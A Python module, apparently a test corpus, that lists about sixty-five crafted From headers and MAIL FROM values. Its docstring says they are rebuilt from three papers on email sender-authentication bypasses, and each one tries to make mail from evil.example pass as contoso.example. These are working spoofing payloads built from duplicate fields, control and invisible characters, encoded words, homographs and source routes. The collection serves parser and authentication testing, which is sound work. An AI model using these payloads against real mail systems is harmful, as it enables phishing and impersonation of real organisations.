"""Forms of From and MAIL FROM that readers understand differently, rebuilt from what three publications
describe. `contoso.example` is ours, `evil.example` the attacker's; every form wants to be taken for the
first by somebody.

CK  "Composition Kills: A Case Study of Email Sender Authentication", USENIX Security 2020
WL  "Weak Links in Authentication Chains", USENIX Security 2021
EA  "Splitting the Email Atom: Exploiting Parsers to Bypass Access Controls", 2024
"""

import base64
from dataclasses import dataclass

OURS = "<admin@contoso.example>"
EVIL = "<any@evil.example>"


@dataclass
class Form:
    paper: str
    name: str
    header: bytes                 # the From field or fields, as sent; may be no From at all
    mail_from: str = EVIL
    more: bytes = b""             # further fields
    honest: bool = False          # what is handed on shows the attacker's own address alone


def encoded(text, charset="utf-8"):
    return f"=?{charset}?B?{base64.b64encode(text.encode()).decode()}?=".encode()


ADMIN = b"From: <admin@contoso.example>\r\n"
FORMS = (
    # Composition Kills: between HELO, MAIL FROM and what a verifier looks up.
    Form("CK", "MAIL FROM of a subdomain that does not exist", ADMIN,
         "<any@nobody.contoso.example>"),
    Form("CK", "MAIL FROM that opens with a comment", ADMIN, "<(any@contoso.example>"),
    Form("CK", "empty MAIL FROM", ADMIN, "<>"),
    Form("CK", "comment in the domain of MAIL FROM", ADMIN, "<any@contoso.example(a.evil.example>"),
    Form("CK", "single quote and a second @ in MAIL FROM", ADMIN,
         "<any@contoso.example'@any.evil.example>"),
    Form("CK", "source route in MAIL FROM", ADMIN, "<@contoso.example,@any.example:'any@evil.example>"),
    Form("CK", "NUL in the domain of From", b"From: <admin@contoso.example\x00.evil.example>\r\n"),
    # Composition Kills: several From, as the verifier and the reader pick theirs.
    Form("CK", "two From, ours last", b"From: <first@evil.example>\r\n" + ADMIN),
    Form("CK", "two From, ours first", ADMIN + b"From: <first@evil.example>\r\n"),
    Form("CK", "From after a space at the beginning of its line",
         b" From: <first@evil.example>\r\n" + ADMIN),
    Form("CK", "From with a space before its colon",
         b"From: <first@evil.example>\r\nFrom : <admin@contoso.example>\r\n"),
    Form("CK", "From and its colon on two lines", b"From\r\n : <first@evil.example>\r\n" + ADMIN),
    Form("CK", "From with a control character before its colon",
         b"From: <first@evil.example>\r\nFrom\x01: <admin@contoso.example>\r\n",
         honest=True),  # no field name to Postfix: it ends the header there
    Form("CK", "broken From, Sender is ours", b"From\r\n : <first@evil.example>\r\n",
         more=b"Sender: <admin@contoso.example>\r\n"),
    Form("CK", "broken From, Resent-From is ours", b"From\r\n : <first@evil.example>\r\n",
         more=b"Resent-From: <admin@contoso.example>\r\n"),
    Form("CK", "no From, Sender is ours", b"", more=b"Sender: <admin@contoso.example>\r\n"),
    # Composition Kills: one From that two parsers read differently.
    Form("CK", "two mailboxes", b"From: <first@evil.example>, <admin@contoso.example>\r\n"),
    Form("CK", "two mailboxes, one encoded",
         b"From: " + encoded(OURS) + b",<second@evil.example>\r\n"),
    Form("CK", "encoded address as a name", b"From: " + encoded(OURS) + b" <second@evil.example>\r\n"),
    Form("CK", "source route", b"From: <@evil.example,@any.example:admin@contoso.example>\r\n"),
    Form("CK", "backslash before the comma",
         b"From: <admin@contoso.example>\\,<second@evil.example>\r\n"),
    Form("CK", "bare address, comma, angles", b"From: admin@contoso.example,<second@evil.example>\r\n"),
    Form("CK", "text after the angles", b"From: <any@evil.example>admin@contoso.example\r\n"),
    Form("CK", "two pairs of angles", b"From: <admin@contoso.example><any@evil.example>\r\n"),
    Form("CK", "address in a quoted name", b'From: "admin@contoso.example" <any@evil.example>\r\n'),
    Form("CK", "address in a bare name", b"From: admin@contoso.example <any@evil.example>\r\n"),
    Form("CK", "comment holds the address", b"From: (<admin@contoso.example>) <any@evil.example>\r\n"),
    Form("CK", "comment after the address", b"From: any@evil.example (admin@contoso.example)\r\n"),
    Form("CK", "unclosed comment", b"From: <admin@contoso.example(>,any@evil.example\r\n"),
    Form("CK", "unclosed quote", b'From: "admin@contoso.example <any@evil.example>\r\n'),
    Form("CK", "quoted pair in the local part",
         b'From: "admin@contoso.example\\">"@evil.example\r\n'),
    # Weak Links.
    Form("WL", "MAIL FROM and From differ (A2)", ADMIN),
    Form("WL", "empty MAIL FROM on ordinary mail (A3)", ADMIN, "<>"),
    Form("WL", "three From (A4)", b"From: <a@evil.example>\r\n" + ADMIN + b"From: <b@evil.example>\r\n"),
    Form("WL", "From in another case (A4)", b"fRoM: <a@evil.example>\r\n" + ADMIN),
    Form("WL", "several addresses without angles (A5)",
         b"From: any@evil.example, admin@contoso.example\r\n"),
    Form("WL", "a group (A6)", b"From: Friends: any@evil.example, admin@contoso.example;\r\n"),
    Form("WL", "an empty first mailbox (A6)", b"From: ,<admin@contoso.example>,<any@evil.example>\r\n"),
    Form("WL", "nested angles (A6)", b"From: <<admin@contoso.example>any@evil.example>\r\n"),
    Form("WL", "text cut by NUL (A6)", b"From: admin@contoso.example\x00<any@evil.example>\r\n"),
    Form("WL", "text cut by a line feed (A6)",
         b"From: admin@contoso.example\r\n\t<any@evil.example>\r\n"),
    Form("WL", "invisible characters in the domain (A6)",
         "From: <admin@contoso.example\u200b.evil.example>\r\n".encode()),
    Form("WL", "the whole field encoded (A7)", b"From: " + encoded(OURS) + b"\r\n"),
    Form("WL", "domain encoded (A7)", b"From: admin@" + encoded("contoso.example") + b"\r\n"),
    Form("WL", "encoded comma parts the mailboxes (A7)",
         b"From: =?utf-8?Q?=3Cadmin=40contoso=2Eexample=3E=2C?= <any@evil.example>\r\n"),
    Form("WL", "subdomain of ours without policy (A8)", b"From: <admin@no.contoso.example>\r\n",
         "<any@no.contoso.example>"),
    Form("WL", "IDN homograph, Cyrillic o (A12)",
         "From: <admin@c\u043entoso.example>\r\n".encode(), EVIL),
    Form("WL", "IDN homograph as A-label (A12)", b"From: <admin@xn--cntoso-wqf.example>\r\n", EVIL),
    Form("WL", "characters that are not shown (A13)",
         "From: <admin@contoso.example\u2060\u2063>\r\n".encode()),
    Form("WL", "right-to-left override (A14)",
         "From: \u202emoc.elpmaxe@osotnoc\u202d <any@evil.example>\r\n".encode()),
    Form("WL", "right-to-left override in the domain (A14)",
         "From: <admin@\u202eelpmaxe.osotnoc>\r\n".encode()),
    # Splitting the Email Atom: the address itself.
    Form("EA", "encoded @ in the local part",
         b"From: =?x?q?=41=42=43admin=40contoso.example=3e=20?=@evil.example\r\n"),
    Form("EA", "encoded @, > and NUL", b"From: <=?x?q?admin=40contoso.example=3e=00?=any@evil.example>\r\n"),
    Form("EA", "encoded local part in MAIL FROM", ADMIN,
         "<=?x?q?admin=40contoso.example=3e?=any@evil.example>"),
    Form("EA", "UTF-7 encoded word",
         b"From: =?utf-7?q?admin&AEA-contoso.example&ACA-?=@evil.example\r\n"),
    Form("EA", "quoted local part that is an address",
         b'From: "admin@contoso.example"@evil.example\r\n'),
    Form("EA", "the same in MAIL FROM", b"From: <any@evil.example>\r\n",
         '<"admin@contoso.example"@evil.example>'),
    Form("EA", "percent hack", b"From: <any%evil.example@contoso.example>\r\n",
         "<any%evil.example@contoso.example>"),
    Form("EA", "percent hack with an open comment", b"From: <any%evil.example(@contoso.example>\r\n",
         "<any%evil.example(@contoso.example>"),
    Form("EA", "bang path", b"From: <evil.example!any@contoso.example>\r\n",
         "<evil.example!any@contoso.example>"),
    Form("EA", "bang path with an escaped @", b"From: <evil.example!any\\@contoso.example>\r\n",
         "<evil.example!any\\@contoso.example>"),
    Form("EA", "source route with our domain last", b"From: <@evil.example:any@contoso.example>\r\n",
         "<@evil.example:any@contoso.example>"),
    Form("EA", "character that overflows to @",
         "From: <any\u0140evil.example@contoso.example>\r\n".encode(), EVIL),
    Form("EA", "full-width @", "From: <any@evil.example\uff20contoso.example>\r\n".encode(), EVIL),
    Form("EA", "malformed A-label", b"From: <admin@xn--svg/-9x6.contoso.example>\r\n", EVIL),
    Form("EA", "address literal", b"From: <admin@[198.51.100.9]>\r\n", "<any@[198.51.100.9]>",
         honest=True),
    Form("EA", "comment in the local part", b"From: <admin(contoso.example)@evil.example>\r\n", honest=True),
    Form("EA", "blank within the domain", b"From: <admin@contoso.example .evil.example>\r\n"),
)
